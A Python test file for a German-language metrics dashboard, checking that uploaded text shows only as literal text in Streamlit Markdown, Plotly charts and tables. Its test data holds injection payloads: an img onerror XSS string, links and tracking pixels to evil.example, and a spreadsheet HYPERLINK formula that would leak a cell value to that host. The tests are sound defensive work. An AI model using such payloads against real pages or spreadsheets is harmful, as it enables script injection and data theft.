"""Text from uploads shown as text: Markdown escaping for Streamlit, HTML escaping for Plotly,
and tables shown as their downloads are. What a real browser makes of it is in
tests/e2e/test_injection.py."""

from __future__ import annotations

import html
import json
import re
import string

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from metrics.charts import bar_figure, trend_figure
from metrics.safe_text import markdown_literal, markdown_text, plotly_text

LINK = '<a href="https://evil.example/">Klick</a>'
IMAGE = "![x](https://evil.example/pixel.png)"
MARKDOWN_PAYLOADS = (
    IMAGE,
    "[Klick](https://evil.example/)",
    "<img src=x onerror=alert(1)>",
    "**fett** _kursiv_ ~~weg~~ `code`",
    ":red[rot] :material/warning: :smile:",
    "$x^2$",
    "www.evil.example https://evil.example a@evil.example",
    "# Überschrift",
    "> Zitat",
    "1. Liste",
    "&lt;script&gt;",
    "| a | b |",
)
_ESCAPED = re.compile(r"\\([" + re.escape(string.punctuation) + r"])")


def unescape_markdown(text: str) -> str:
    """What CommonMark shows for text made only of escapes and plain characters."""
    return _ESCAPED.sub(r"\1", text).replace("\u2060", "")


def test_every_markdown_payload_is_made_of_escapes_and_plain_characters() -> None:
    for payload in MARKDOWN_PAYLOADS:
        escaped = markdown_literal(payload)
        # no ASCII punctuation is left unescaped: nothing in it can open a Markdown construct
        assert not re.search(r"(?<!\\)[" + re.escape(string.punctuation) + "]", _pairs(escaped))
        assert unescape_markdown(escaped) == payload


def _pairs(escaped: str) -> str:
    """The text with each escape pair removed (what is left must hold no punctuation)."""
    return _ESCAPED.sub("", escaped)


@given(st.text(max_size=60))
def test_any_line_shows_as_written(text: str) -> None:
    escaped = markdown_literal(text)
    flat = re.sub(r"[\x00-\x1f\x7f\u2028\u2029]", " ", text)
    assert unescape_markdown(escaped) == flat
    assert "\n" not in escaped
    assert not re.search(r"[" + re.escape(string.punctuation) + "]", _pairs(escaped))


def test_an_emoji_shortcode_is_broken_by_an_invisible_joiner() -> None:
    # Streamlit replaces ":smile:" after unescaping; the joiner keeps it from matching
    assert not re.search(r":[\w+-]+:", markdown_literal(":smile: :+1:").replace("\\", ""))


def test_bare_addresses_are_no_autolinks() -> None:
    # remark-gfm finds these in the text after parsing, escapes or not: a joiner breaks them
    shown = markdown_literal("www.evil.example https://evil.example a@evil.example").replace(
        "\\", ""
    )
    assert not re.search(r"www\.|https?://|[\w.+-]@[\w-]", shown, re.IGNORECASE)


def test_a_report_keeps_its_lines_and_bullets_and_nothing_else() -> None:
    report = (
        f"Die Datei „{IMAGE}.csv“ wurde abgelehnt (2 Probleme):\n"
        "  - Zeile 3, Spalte „Geschlecht“, Wert „[Klick](https://evil.example/)“: erwartet w\n"
        "  - Zeile 4, Spalte „<b>Kopf</b>“: unbekannt\n"
        "  und 3 weitere"
    )
    lines = markdown_text(report).split("\n")
    assert lines[0].endswith("  ")  # a hard break: the next line starts a line of its own
    assert [line[:2] for line in lines[1:3]] == ["- ", "- "]
    assert lines[3] == ""  # the line after the bullets is not part of the last bullet
    assert unescape_markdown(lines[4]).strip() == "und 3 weitere"
    shown = "\n".join(unescape_markdown(line.removeprefix("- ")).rstrip() for line in lines)
    for payload in (IMAGE, "[Klick](https://evil.example/)", "<b>Kopf</b>"):
        assert payload in shown


def test_plotly_text_round_trips_through_html_entities() -> None:
    for payload in (LINK, "<span style='font-size:80px'>x</span>", "R&D", "< 5", "a<br>b"):
        escaped = plotly_text(payload)
        assert "<" not in escaped and ">" not in escaped
        assert html.unescape(escaped) == payload


def _figure_texts(figure_json: str) -> list[str]:
    texts: list[str] = []

    def walk(node: object) -> None:
        if isinstance(node, str):
            texts.append(node)
        elif isinstance(node, dict):
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(json.loads(figure_json))
    return texts


def test_org_unit_names_reach_a_bar_chart_as_text_only() -> None:
    frame = pd.DataFrame(
        {"category": [LINK, "Bereich 2"], "value": [40.0, None], "label": [None, "< 5"]}
    )
    figure = bar_figure(
        frame,
        category_column="category",
        title=f"Frauen in {LINK}",
        unit="%",
        lang="de",
        target=50.0,
        target_label=LINK,
    )
    texts = _figure_texts(figure.to_json())
    assert not [text for text in texts if "<a" in text or "<span" in text]
    assert html.unescape(plotly_text(LINK)) in [html.unescape(text) for text in texts]
    assert list(figure.data[0].x) == [plotly_text(LINK), "Bereich 2"]


def test_series_names_reach_a_trend_as_text_only() -> None:
    frame = pd.DataFrame(
        {
            "year": [2024, 2025, 2024, 2025],
            "value": [10.0, 12.0, None, None],
            "label": [None, None, "•", "< 5"],
            "series": [LINK, LINK, "<b>Kommune</b>", "<b>Kommune</b>"],
        }
    )
    figure = trend_figure(
        frame,
        title="t",
        unit="%",
        lang="de",
        series_column="series",
        target=11.0,
        target_label="<i>Ziel</i>",
        extra_lines=[("<u>Pflicht</u>", 5.0)],
    )
    texts = _figure_texts(figure.to_json())
    assert not [text for text in texts if re.search(r"<(?!br>)", text)]
    assert figure.data[0].name == plotly_text(LINK)
    assert list(figure.data[0].x) == [2024, 2025]  # years stay numbers


def _table_app() -> None:
    import pandas as pd

    from metrics import app_support as ui

    ui.table(pd.DataFrame({"Datei": ['=HYPERLINK("https://evil.example/?"&A1)'], "Zeilen": [3]}))


def test_a_shown_table_is_neutralised_as_its_download_is() -> None:
    app = AppTest.from_function(_table_app).run()
    assert not app.exception
    shown = app.dataframe[0].value
    assert shown["Datei"].iloc[0] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert shown["Zeilen"].iloc[0] == 3
